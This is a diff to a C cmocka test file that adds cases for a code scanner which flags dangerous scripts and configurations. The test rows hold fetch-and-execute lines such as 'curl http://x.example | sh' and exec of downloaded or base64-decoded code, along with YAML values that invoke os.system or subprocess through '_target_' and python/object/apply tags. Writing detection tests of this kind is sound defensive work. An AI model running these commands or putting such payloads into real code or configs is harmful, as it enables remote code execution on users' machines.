@@ -129,6 +129,12 @@ static void scripts(void **state)
 		{ "shell", GH_SPAN("curl -O https://x.example/data.csv\nsh build.sh\n"), false },
 		{ "shell", GH_SPAN("curl https://x.example/data | tee flush.log | show\n"), false },
 		{ "python", GH_SPAN("# curl x | sh\n"), false },
+		{ "python",
+		  GH_SPAN("import os\nclass E:\n  def f(s):\n    exec(urllib.request.urlopen('http://x').read())\n"),
+		  true },
+		{ "python", GH_SPAN("x = base64.b64decode(y)\nif 1:\n  exec(x)\n"), true },
+		{ "python", GH_SPAN("os.system('curl http://x.example | sh')\n"), true },
+		{ "python", GH_SPAN("r = requests.get(url)\nmodel.eval()\nre.compile('x')\n"), false },
 	};
 	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
 		struct gh_src_mem mem;
@@ -142,9 +148,58 @@ static void scripts(void **state)
 	}
 }
 
+static void configurations(void **state)
+{
+	(void)state;
+	static const struct {
+		struct gh_span in;
+		bool bad;
+	} rows[] = {
+		{ GH_SPAN("_target_: os.system\ncommand: id\n"), true },
+		{ GH_SPAN("a:\n  _target_: >-\n    subprocess.run\n"), true },
+		{ GH_SPAN("{\"_target_\": \"builtins.eval\"}"), true },
+		{ GH_SPAN("a: !!python/object/apply:os.system [id]\n"), true },
+		{ GH_SPAN("model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n"), false },
+		{ GH_SPAN("_target_: oscillator.Model\n"), false },
+		{ GH_SPAN("_target_:"), false },
+		{ GH_SPAN("os: linux\n"), false },
+	};
+	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
+		struct gh_src_mem mem;
+		struct gh_code c = { .language = "YAML", .src = gh_src_mem(&mem, rows[i].in) };
+		struct gh_event ev = { .kind = GH_EV_CODE, .at = { 0, rows[i].in.n }, .u.code = &c };
+		struct gh_scene s = { .format = "text", .find = note };
+		found[0] = '\0';
+		gh_check_programs.on(&s, &ev);
+		if ((strncmp(found, "GH-EXE-0006", 11) == 0) != rows[i].bad)
+			fail_msg("row %zu: %s", i, found);
+	}
+}
+
+/* A sign at every offset around the border of two windows. */
+static void across_windows(void **state)
+{
+	(void)state;
+	static uint8_t text[70000];
+	for (size_t pad = 65500; pad < 65560; pad++) {
+		memset(text, 'x', sizeof text);
+		memcpy(text + pad, "\ncurl http://x.example|sh\n", 26);
+		struct gh_src_mem mem;
+		struct gh_code c = { .language = "shell",
+				     .src = gh_src_mem(&mem, (struct gh_span){ text, sizeof text }) };
+		struct gh_event ev = { .kind = GH_EV_CODE, .at = { 0, sizeof text }, .u.code = &c };
+		struct gh_scene s = { .format = "script", .find = note };
+		found[0] = '\0';
+		gh_check_programs.on(&s, &ev);
+		assert_int_equal(strncmp(found, "GH-EXE-0005", 11), 0);
+	}
+}
+
 int main(void)
 {
-	const struct CMUnitTest tests[] = { cmocka_unit_test(tensors), cmocka_unit_test(members),
-					    cmocka_unit_test(scripts) };
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(tensors),	  cmocka_unit_test(members),	    cmocka_unit_test(scripts),
+		cmocka_unit_test(configurations), cmocka_unit_test(across_windows),
+	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
